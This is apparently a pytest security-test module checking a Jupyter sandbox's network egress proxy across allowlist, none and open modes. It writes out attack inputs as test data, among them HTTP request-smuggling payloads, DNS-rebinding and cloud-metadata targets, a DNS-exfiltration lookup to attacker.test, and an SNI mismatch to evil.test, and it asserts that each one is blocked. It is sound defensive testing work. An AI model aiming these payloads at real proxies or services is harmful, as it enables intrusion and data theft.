"""Egress from real sandboxes on both runtimes: none, allowlist, open, live changes, audit.

Security checklist rows 14-24 (see each test's docstring). One sandbox per runtime is shared by
the module (each test first sets the policy it needs, through the same call the REST API uses),
so the kernel inside also proves that policy changes never cost it its state. Test servers
listen on the host's 127.0.0.1 (and 127.0.0.2) only, reached through the test-only settings
``allow_loopback_for_tests`` and ``test_host_addresses``; the only other targets are
documentation addresses (192.0.2.0/24), metadata and private addresses that the sandbox cannot
route to and the proxy refuses, so no test sends traffic anywhere else.
"""

from __future__ import annotations

import json
import os
import signal
import tempfile
from collections.abc import AsyncIterator, Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio

from jupyter_sandbox.sandbox.host.process_lock import ProcessLock
from jupyter_sandbox.sandbox.host.sandbox_dir import SandboxDirectory
from jupyter_sandbox.sandbox.manager import Sandbox, SandboxManager
from jupyter_sandbox.sandbox.network import proxy_running
from jupyter_sandbox.sandbox.network.control import PROXY_LOCK
from tests.conftest import (
    BOTH_RUNTIMES,
    manager_config,
    purpose_label,
    remove_everything_under,
    remove_state_dir,
)
from tests.kernel_client import execute
from tests.sandbox.network.servers import RecordingServer, recording_server

pytestmark = pytest.mark.asyncio(loop_scope="module")
OWNER = "alice"
NO_ROUTE = ("ENETUNREACH", "EHOSTUNREACH")  # runc says the first, gVisor the second

HELPERS = r"""
import errno, json, socket, urllib.error, urllib.request, http.client
def fetch(url):
    try:
        with urllib.request.urlopen(url, timeout=30) as r:
            return [r.status, r.read().decode()[:200]]
    except urllib.error.HTTPError as e:
        return [e.code, e.headers.get("X-Jupyter-Sandbox-Denied") or e.read().decode()[:200]]
    except Exception as e:
        return [-1, f"{type(e).__name__}: {e}"]
def connect_through(host, port):
    conn = http.client.HTTPConnection("127.0.0.1", 3128, timeout=30)
    conn.set_tunnel(host, port)
    try:
        conn.request("GET", "/")
        r = conn.getresponse()
        return [r.status, r.read().decode()[:200]]
    except OSError as e:
        return [-1, f"{type(e).__name__}: {e}"]
def raw(family, kind, address):
    s = socket.socket(family, kind)
    s.settimeout(5)
    try:
        if kind == socket.SOCK_DGRAM:
            s.sendto(b"x", address)
            s.recv(10)
        else:
            s.connect(address)
        return "connected"
    except OSError as e:
        return errno.errorcode.get(e.errno, type(e).__name__)
    finally:
        s.close()
def icmp():
    found = []
    for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
        try:
            s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
            s.settimeout(5)
            s.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", ("192.0.2.1", 0))
            found.append("sent")
        except OSError as e:
            found.append(errno.errorcode.get(e.errno, type(e).__name__))
    return found
def tls_through(host, port, server_name):
    import ssl
    s = socket.create_connection(("127.0.0.1", 3128), timeout=30)
    s.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head:
        head += s.recv(1024)
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    try:
        context.wrap_socket(s, server_hostname=server_name)
        return [head.split()[1].decode(), "handshake done"]
    except OSError as e:
        return [head.split()[1].decode(), type(e).__name__]
def raw_proxy(data):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=30)
    try:
        s.sendall(data)
        got = b""
        while b"\r\n" not in got:
            chunk = s.recv(4096)
            if not chunk:
                break
            got += chunk
        return got.split(b"\r\n")[0].decode("latin-1") or "closed without an answer"
    except OSError as e:
        return type(e).__name__
    finally:
        s.close()
def lookup(name):
    try:
        return socket.getaddrinfo(name, 80)
    except OSError as e:
        return f"{type(e).__name__}: {e}"
kept = 41
"""


@pytest.fixture(scope="module")
def server() -> Iterator[RecordingServer]:
    with recording_server("127.0.0.1") as s:
        yield s


@pytest.fixture(scope="module")
def rebind_target() -> Iterator[RecordingServer]:
    with recording_server("127.0.0.2") as s:
        yield s


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def net_manager() -> AsyncIterator[SandboxManager]:
    state_dir = Path(tempfile.mkdtemp(prefix="jsbx-", dir="/tmp"))
    config = manager_config(state_dir)
    config.NetworkSettings.allow_loopback_for_tests = True
    config.NetworkSettings.test_host_addresses = {
        "allowed.test": "127.0.0.1",
        "unlisted.test": "127.0.0.1",
        "allowed.test.evil.test": "127.0.0.1",
        "rebind.test": "127.0.0.2",
        "metadata.test": "169.254.169.254",
        "mapped.test": "::ffff:169.254.169.254",
        "private.test": "10.0.0.1",
        "wild.test": "127.0.0.1",
        "a.wild.test": "127.0.0.1",
        # IPv6 forms that embed 127.0.0.2 (issue 31: the IPv4-translated one passed the guard).
        "translated.test": "::ffff:0:7f00:2",
        "compatible.test": "::7f00:2",
        "local-nat64.test": "64:ff9b:1::7f00:2",
        "nat64.test": "64:ff9b::7f00:2",
        "sixtofour.test": "2002:7f00:2::1",
        "teredo.test": "2001:0:7f00:2::1",
    }
    manager = SandboxManager.from_config(config)
    try:
        yield manager
    finally:
        for info in await manager.list_sandboxes(OWNER):
            await manager.remove(OWNER, info.sandbox_id)  # stops host proxies too
        await remove_everything_under(manager, state_dir)
        await manager.close()
        remove_state_dir(state_dir)


@pytest.fixture(scope="module", params=BOTH_RUNTIMES)
def runtime(request: pytest.FixtureRequest) -> str:
    """Module-scoped here (one sandbox per runtime); named ``runtime`` so that the security
    report (tests/conftest.py: checklist_row) records it."""
    return str(request.param)


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def box(net_manager: SandboxManager, runtime: str) -> AsyncIterator[Sandbox]:
    sandbox = await net_manager.create(
        OWNER, runtime=runtime, purpose=purpose_label(f"{__name__}[{runtime}]")
    )
    output, reply = await execute(sandbox.connection_info, HELPERS)
    assert reply["status"] == "ok", output
    try:
        yield sandbox
    finally:
        await net_manager.remove(OWNER, sandbox.sandbox_id)


async def run(box: Sandbox, expression: str) -> Any:
    output, reply = await execute(box.connection_info, f"print(json.dumps({expression}))")
    assert reply["status"] == "ok", output
    return json.loads(output.strip().splitlines()[-1])


async def set_policy(manager: SandboxManager, box: Sandbox, policy: Any) -> None:
    await manager.set_network_policy(OWNER, box.sandbox_id, policy)


@pytest.mark.checklist(
    row=14,
    attack="network in none mode: HTTP, nc to an IP (TCP), UDP, ICMP, DNS lookup",
    expected="all fail (only lo exists)",
)
async def test_none_http_raw_tcp_udp_dns_all_fail(
    net_manager: SandboxManager, box: Sandbox, server: RecordingServer, observe: Callable[..., None]
) -> None:
    """Row 14: in none mode curl-like HTTP, TCP to an IP, UDP and DNS all fail; only lo."""
    await set_policy(net_manager, box, "none")
    before = server.connections
    status, said = await run(box, f"fetch('http://allowed.test:{server.port}/')")
    assert status in (-1, 403), said  # nothing listens, or the forwarder says "none"
    assert "Connection refused" in said or "network policy is none" in said
    tcp = await run(box, "raw(socket.AF_INET, socket.SOCK_STREAM, ('192.0.2.1', 80))")
    udp = await run(box, "raw(socket.AF_INET, socket.SOCK_DGRAM, ('192.0.2.1', 53))")
    assert tcp in NO_ROUTE
    assert udp in NO_ROUTE
    assert "gaierror" in await run(box, "lookup('pypi.org')")
    interfaces = await run(box, "[name for _, name in socket.if_nameindex()]")
    assert interfaces == ["lo"]
    raw_icmp, ping = await run(box, "icmp()")
    assert raw_icmp in ("EPERM", "EACCES")  # no CAP_NET_RAW
    assert ping in ("EPERM", "EACCES", *NO_ROUTE)
    assert server.connections == before
    observe(
        f"HTTP: {said}; TCP {tcp}, UDP {udp}, raw ICMP {raw_icmp}, ping socket {ping}; DNS: "
        "no resolver; interfaces: lo",
        cases=6,
    )


@pytest.mark.checklist(
    row=15,
    attack="an empty allowlist",
    expected="identical to none: every request denied (fail closed)",
)
async def test_empty_allowlist_denies_like_none(
    net_manager: SandboxManager, box: Sandbox, server: RecordingServer, observe: Callable[..., None]
) -> None:
    """Row 15: an empty allowlist fails closed, with the proxy's 403."""
    await set_policy(net_manager, box, {"mode": "allowlist", "allow": []})
    before = server.connections
    assert await run(box, f"fetch('http://allowed.test:{server.port}/')") == [
        403,
        "not in allowlist",
    ]
    assert server.connections == before
    observe("403 'not in allowlist' from the proxy; the server saw no connection")


@pytest.mark.checklist(
    row=16,
    attack="allowlist: a non-listed domain, an IP literal, another port, a look-alike domain, the apex of a wildcard",
    expected="403 from the proxy; the listed name works; the apex is not matched by *.domain",
)
async def test_allowlist_listed_name_works_others_get_403(
    net_manager: SandboxManager, box: Sandbox, server: RecordingServer, observe: Callable[..., None]
) -> None:
    """Row 16: listed name works (HTTP and CONNECT); unlisted, IP literal, another port and a
    look-alike get a 403 from the proxy, which never contacts them."""
    await set_policy(net_manager, box, f"allowed.test:{server.port}")
    port = server.port
    assert await run(box, f"fetch('http://allowed.test:{port}/')") == [
        200,
        "hello from the test server\n",
    ]
    assert (await run(box, f"connect_through('allowed.test', {port})"))[0] == 200
    before = server.connections
    refused = {
        f"http://unlisted.test:{port}/": "not in allowlist",
        f"http://allowed.test.evil.test:{port}/": "not in allowlist",
        f"http://allowed.test:{port + 1}/": "not in allowlist",
        "http://1.1.1.1/": "address literal (the allowlist names hosts)",
    }
    for url, rule in refused.items():
        assert await run(box, f"fetch({url!r})") == [403, rule], url
    assert (await run(box, "connect_through('1.1.1.1', 443)"))[0] == -1  # tunnel refused: 403
    assert server.connections == before
    await set_policy(net_manager, box, "*.wild.test")
    assert (await run(box, f"fetch('http://a.wild.test:{port}/')"))[0] == 200
    assert await run(box, f"fetch('http://wild.test:{port}/')") == [403, "not in allowlist"]
    observe(
        "listed name 200 over HTTP and CONNECT; unlisted, look-alike, other port, IP literal "
        "(HTTP and CONNECT) and the wildcard's apex: 403 with the rule, server never contacted",
        cases=7,
    )


@pytest.mark.checklist(
    row=18,
    attack="an allowed name resolving to 127.0.0.2, 169.254.169.254, ::ffff:169.254.169.254, 10.0.0.1 (DNS rebinding)",
    expected="403 'resolved to a denied address'; the server at that address never contacted",
)
async def test_allowed_name_resolving_to_denied_address_is_refused_uncontacted(
    net_manager: SandboxManager,
    box: Sandbox,
    rebind_target: RecordingServer,
    observe: Callable[..., None],
) -> None:
    """Row 18 (DNS rebinding): an allowed name resolving to loopback is a 403, and the server
    at that address never sees a connection."""
    cases = {
        "rebind.test": "127.0.0.2 (loopback)",
        "metadata.test": "169.254.169.254 (cloud metadata service)",
        "mapped.test": "::ffff:169.254.169.254 (embeds 169.254.169.254: cloud metadata service)",
        "private.test": "10.0.0.1 (private)",
    }
    for name, why in cases.items():
        await set_policy(net_manager, box, name)
        status, rule = await run(box, f"fetch('http://{name}:{rebind_target.port}/')")
        assert status == 403, name
        assert rule == f"resolved to a denied address {why}"
    assert rebind_target.connections == 0
    observe("403 'resolved to a denied address' for each; the server on 127.0.0.2 saw none", 4)


@pytest.mark.checklist(
    row=17,
    attack="a tool that ignores the proxy variables (raw socket to the allowed host's address)",
    expected="connect fails: no route",
)
async def test_raw_socket_ignoring_the_proxy_gets_no_route(
    net_manager: SandboxManager, box: Sandbox, server: RecordingServer, observe: Callable[..., None]
) -> None:
    """Row 17: with an allowlist in force, a socket that ignores the proxy reaches nothing: the
    allowed server's address is the sandbox's own loopback, anything else has no route."""
    await set_policy(net_manager, box, "allowed.test")
    before = server.connections
    own = await run(box, f"raw(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', {server.port}))")
    assert own == "ECONNREFUSED"
    away = await run(box, "raw(socket.AF_INET, socket.SOCK_STREAM, ('192.0.2.1', 443))")
    assert away in NO_ROUTE
    assert "gaierror" in await run(box, "lookup('allowed.test')")  # no resolver inside
    assert server.connections == before
    observe(f"to the allowed server's port: {own} (the sandbox's own lo); elsewhere: {away}", 2)


@pytest.mark.checklist(
    row=19,
    attack="cloud metadata and private addresses directly, in open mode: 169.254.169.254, fd00:ec2::254, ::ffff:169.254.169.254, 100.100.100.200, 168.63.129.16, 10.0.0.1, 192.168.1.1",
    expected="blocked in every mode, open included",
)
async def test_open_still_refuses_metadata_and_private_addresses(
    net_manager: SandboxManager, box: Sandbox, server: RecordingServer, observe: Callable[..., None]
) -> None:
    """Row 19: open allows a public name, never metadata, private or link-local addresses."""
    await set_policy(net_manager, box, "open")
    assert (await run(box, f"fetch('http://allowed.test:{server.port}/')"))[0] == 200
    for target in (
        "169.254.169.254",
        "[fd00:ec2::254]",
        "[::ffff:169.254.169.254]",
        "100.100.100.200",
        "168.63.129.16",
        "10.0.0.1",
        "192.168.1.1",
    ):
        status, rule = await run(box, f"fetch('http://{target}/latest/meta-data/')")
        assert status == 403, target
        assert rule.startswith("resolved to a denied address"), (target, rule)
    observe("a public name (standing in: 127.0.0.1 for tests) 200; all 7 addresses 403", cases=7)


async def test_live_policy_change_applies_at_once_and_keeps_kernel_state(
    net_manager: SandboxManager, box: Sandbox, server: RecordingServer
) -> None:
    """Changing the policy of the running sandbox takes effect on the next request."""
    url = f"http://allowed.test:{server.port}/"
    await run(box, "globals().__setitem__('kept', kept + 1)")
    await set_policy(net_manager, box, "allowed.test")
    assert (await run(box, f"fetch({url!r})"))[0] == 200
    await set_policy(net_manager, box, "other.test")
    assert await run(box, f"fetch({url!r})") == [403, "not in allowlist"]
    await set_policy(net_manager, box, "none")
    assert (await run(box, f"fetch({url!r})"))[0] in (-1, 403)
    await set_policy(net_manager, box, "allowed.test")
    assert (await run(box, f"fetch({url!r})"))[0] == 200
    assert await run(box, "kept") >= 42  # the same interpreter throughout
    policy = await net_manager.network_policy(OWNER, box.sandbox_id)
    assert policy.as_dict() == {"mode": "allowlist", "allow": ["allowed.test"], "deny": []}


@pytest.mark.checklist(
    row=24,
    attack="sandbox code changing its own egress policy",
    expected="impossible: the policy and token live in the host-only state file; no policy API is reachable from the sandbox",
)
async def test_the_sandbox_cannot_reach_its_policy(
    net_manager: SandboxManager, box: Sandbox, observe: Callable[..., None]
) -> None:
    """Row 24: the policy and token live in the host-only state file, not in /run/sandbox."""
    await set_policy(net_manager, box, "allowed.test")
    seen = await run(box, "sorted(__import__('os').listdir('/run/sandbox'))")
    assert "state.json" not in seen
    assert "egress.sock" in seen
    assert await run(box, "'allowed.test' in open('/proc/self/environ').read()") is False
    observe("/run/sandbox holds sockets only, no state.json; the policy is nowhere in the sandbox")


async def test_audit_records_every_decision(
    net_manager: SandboxManager, box: Sandbox, server: RecordingServer
) -> None:
    """Every decision (time, sandbox, host, port, allowed or the rule) is served back."""
    await set_policy(net_manager, box, "allowed.test")
    await run(box, f"fetch('http://allowed.test:{server.port}/')")
    await run(box, f"fetch('http://unlisted.test:{server.port}/')")
    entries = await net_manager.network_audit(OWNER, box.sandbox_id, limit=2)
    assert [(e["host"], e["allowed"], e["rule"]) for e in entries] == [
        ("allowed.test", True, "allow allowed.test"),
        ("unlisted.test", False, "not in allowlist"),
    ]
    assert {e["sandbox"] for e in entries} == {box.sandbox_id}
    assert all(e["port"] == server.port and e["time"] for e in entries)


@pytest.mark.checklist(
    row=20,
    attack="/etc/hosts spoofing: map an allowed name to an attacker address, then connect",
    expected="the proxy resolves the name itself; the spoof is ineffective",
)
async def test_hosts_file_spoofing_is_ineffective(
    net_manager: SandboxManager,
    box: Sandbox,
    server: RecordingServer,
    observe: Callable[..., None],
) -> None:
    await set_policy(net_manager, box, "allowed.test")
    spoof = await run(
        box,
        "(lambda: [open('/etc/hosts', 'a').write('192.0.2.66 allowed.test'), 'written'][1])()"
        " if __import__('os').access('/etc/hosts', __import__('os').W_OK) else 'read-only'",
    )
    assert spoof == "read-only"
    assert (await run(box, f"fetch('http://allowed.test:{server.port}/')"))[0] == 200
    entry = (await net_manager.network_audit(OWNER, box.sandbox_id, limit=1))[0]
    assert entry["address"] == "127.0.0.1"  # the proxy's own answer, whatever the sandbox says
    observe("/etc/hosts is read-only; the proxy connected to the address it resolved itself")


@pytest.mark.checklist(
    row=21,
    attack="DNS exfiltration: look up $(secret).attacker.test from the sandbox",
    expected="no resolver reachable; the proxy resolves only names the policy allows",
)
async def test_dns_exfiltration_has_no_resolver_and_the_proxy_resolves_only_allowed_names(
    net_manager: SandboxManager, box: Sandbox, observe: Callable[..., None]
) -> None:
    await set_policy(net_manager, box, "allowed.test")
    name = "c2VjcmV0.attacker.test"
    assert "gaierror" in await run(box, f"lookup({name!r})")
    assert "gaierror" in await run(box, "lookup('allowed.test')")
    assert await run(box, f"fetch('http://{name}/')") == [403, "not in allowlist"]
    entry = (await net_manager.network_audit(OWNER, box.sandbox_id, limit=1))[0]
    assert (entry["host"], entry["rule"], "address" in entry) == (
        name.lower(),
        "not in allowlist",
        False,
    )
    observe("getaddrinfo fails inside; through the proxy the name is refused before any lookup")


@pytest.mark.checklist(
    row=22,
    attack="SNI different from the CONNECT host (TLS to another name at an allowed address)",
    expected="closed before any byte of the TLS handshake passes; domain fronting inside TLS is a "
    "documented limitation",
)
async def test_tls_to_another_server_name_through_connect_is_closed(
    net_manager: SandboxManager,
    box: Sandbox,
    server: RecordingServer,
    observe: Callable[..., None],
) -> None:
    await set_policy(net_manager, box, "allowed.test")
    status, outcome = await run(box, f"tls_through('allowed.test', {server.port}, 'evil.test')")
    assert status == "200"
    assert outcome in ("SSLEOFError", "ConnectionResetError", "SSLZeroReturnError")
    entry = (await net_manager.network_audit(OWNER, box.sandbox_id, limit=1))[0]
    assert entry["rule"] == "TLS server name evil.test is not the CONNECT host allowed.test"
    observe(f"the tunnel was closed ({outcome}); the audit names both names")


# Rows 55 and 56 before the two tests below, which stop the host proxy and restart the kernel.
@pytest.mark.checklist(
    row=55,
    attack="raw proxy requests: a bare LF in an absolute-form request line before a second "
    "Host, a CONNECT to a port in non-ASCII digits, two Host headers, Content-Length with "
    "Transfer-Encoding",
    expected="400 from the proxy for each; the allowed server is never contacted",
)
async def test_malformed_proxy_requests_get_a_400_and_reach_no_server(
    net_manager: SandboxManager, box: Sandbox, server: RecordingServer, observe: Callable[..., None]
) -> None:
    """Row 55 (issue 31): the smuggled Host reached the allowed server before the proxy's own,
    and the CONNECT with ² crashed the proxy's handler (no answer at all)."""
    port = server.port
    await set_policy(net_manager, box, f"allowed.test:{port}")
    assert (await run(box, f"fetch('http://allowed.test:{port}/')"))[0] == 200  # it is allowed
    before, hosts = server.connections, len(server.hosts)
    attacks = [
        f"GET http://allowed.test:{port}/ HTTP/1.1\nHost:evil.test\r\n\r\n".encode(),
        b"CONNECT allowed.test:\xb2 HTTP/1.1\r\n\r\n",
        f"CONNECT allowed.test:{port}\u0660 HTTP/1.1\r\n\r\n".encode(),
        f"GET http://allowed.test:{port}/ HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n".encode(),
        (
            f"POST http://allowed.test:{port}/ HTTP/1.1\r\nContent-Length: 4\r\n"
            "Transfer-Encoding: chunked\r\n\r\n"
        ).encode(),
    ]
    for attack in attacks:
        assert await run(box, f"raw_proxy({attack!r})") == "HTTP/1.1 400 Bad Request", attack
    assert server.connections == before
    assert server.hosts[hosts:] == []
    observe("400 from the proxy for each; the allowed server saw no connection", len(attacks))


@pytest.mark.checklist(
    row=56,
    attack="an allowed name resolving to 127.0.0.2 in each IPv6 form that embeds it: "
    "IPv4-translated ::ffff:0:7f00:2, IPv4-compatible, NAT64 (well-known and local), 6to4, Teredo",
    expected="403 'resolved to a denied address ... embeds 127.0.0.2: loopback'; the server "
    "at 127.0.0.2 never contacted",
)
async def test_every_ipv6_form_embedding_a_denied_ipv4_is_refused(
    net_manager: SandboxManager,
    box: Sandbox,
    rebind_target: RecordingServer,
    observe: Callable[..., None],
) -> None:
    """Row 56 (issue 31: the IPv4-translated form passed the address guard)."""
    names = [
        "translated.test",
        "compatible.test",
        "local-nat64.test",
        "nat64.test",
        "sixtofour.test",
        "teredo.test",
    ]
    before = rebind_target.connections
    for name in names:
        await set_policy(net_manager, box, name)
        status, rule = await run(box, f"fetch('http://{name}:{rebind_target.port}/')")
        assert status == 403, name
        assert rule.startswith("resolved to a denied address "), rule
        assert "embeds 127.0.0.2: loopback" in rule, rule
    assert rebind_target.connections == before
    observe("403 naming the embedded 127.0.0.2 for each form; the server saw none", len(names))


async def test_a_killed_host_proxy_is_told_and_setting_the_policy_again_restarts_it(
    net_manager: SandboxManager, box: Sandbox, server: RecordingServer
) -> None:
    """The forwarder says the proxy is gone instead of hanging; a PUT of the policy recovers."""
    await set_policy(net_manager, box, "allowed.test")
    directory = SandboxDirectory(net_manager.settings.state_path, box.sandbox_id)
    pid = int(ProcessLock(directory.root / PROXY_LOCK).note_of_holder())
    os.kill(pid, signal.SIGKILL)
    url = f"http://allowed.test:{server.port}/"
    status, said = await run(box, f"fetch({url!r})")
    assert status == 403
    assert said == "network policy is none or its host proxy is not running"
    assert not proxy_running(directory)
    await set_policy(net_manager, box, "allowed.test")
    assert (await run(box, f"fetch({url!r})"))[0] == 200


async def test_the_policy_outlives_a_kernel_restart(
    net_manager: SandboxManager, box: Sandbox, server: RecordingServer
) -> None:
    """Restarting the interpreter (last in the module: the box's kernel changes) keeps the
    sandbox's forwarder and policy."""
    await set_policy(net_manager, box, "allowed.test")
    restarted = await net_manager.restart_kernel(OWNER, box.sandbox_id)
    output, reply = await execute(restarted.connection_info, HELPERS)
    assert reply["status"] == "ok", output
    assert await run(restarted, f"fetch('http://allowed.test:{server.port}/')") == [
        200,
        "hello from the test server\n",
    ]
